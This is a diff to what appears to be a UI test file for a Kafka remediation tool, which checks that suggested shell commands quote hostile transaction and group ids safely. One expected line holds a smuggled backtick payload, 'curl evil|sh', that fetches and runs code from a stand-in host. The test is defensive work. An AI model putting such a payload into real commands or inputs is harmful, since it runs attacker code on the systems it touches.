@@ -76,7 +76,7 @@ test("an id carrying a fake command adds no command block, and each command is c
   const finding = await openFinding(page, "Transaction with a shell-hostile id is open");
   expect(finding.remediation).toContain(SHELL_HOSTILE_TXN_ID);
   expect(finding.commands.map((x) => x.line)).toEqual([
-    "kafka-transactions.sh --bootstrap-server 127.0.0.1:9092 describe '--transactional-id=billing`kafka-consumer-groups.sh --list; curl evil|sh #`'",
+    "kafka-transactions.sh --bootstrap-server 127.0.0.1:9092 describe --transactional-id='billing`kafka-consumer-groups.sh --list; curl evil|sh #`'",
     "kafka-transactions.sh --bootstrap-server 127.0.0.1:9092 abort --topic=payments --partition 1 --start-offset 1000",
   ]);
   const remediation = page.getByRole("region", { name: "What to do" });
@@ -96,7 +96,7 @@ test("a name with a right-to-left override and a line break is flagged, and copi
   const finding = await openFinding(page, "Lag of a group with a right-to-left override in its id sits on few partitions");
   const line = finding.commands[0].line!;
   expect(line).toBe(
-    `kafka-consumer-groups.sh --bootstrap-server 127.0.0.1:9092 --describe --members --verbose '--group=${BIDI_GROUP_ID}'`,
+    `kafka-consumer-groups.sh --bootstrap-server 127.0.0.1:9092 --describe --members --verbose --group='${BIDI_GROUP_ID}'`,
   );
   const remediation = page.getByRole("region", { name: "What to do" });
   expect(await remediation.locator("pre code").textContent()).toBe(line);
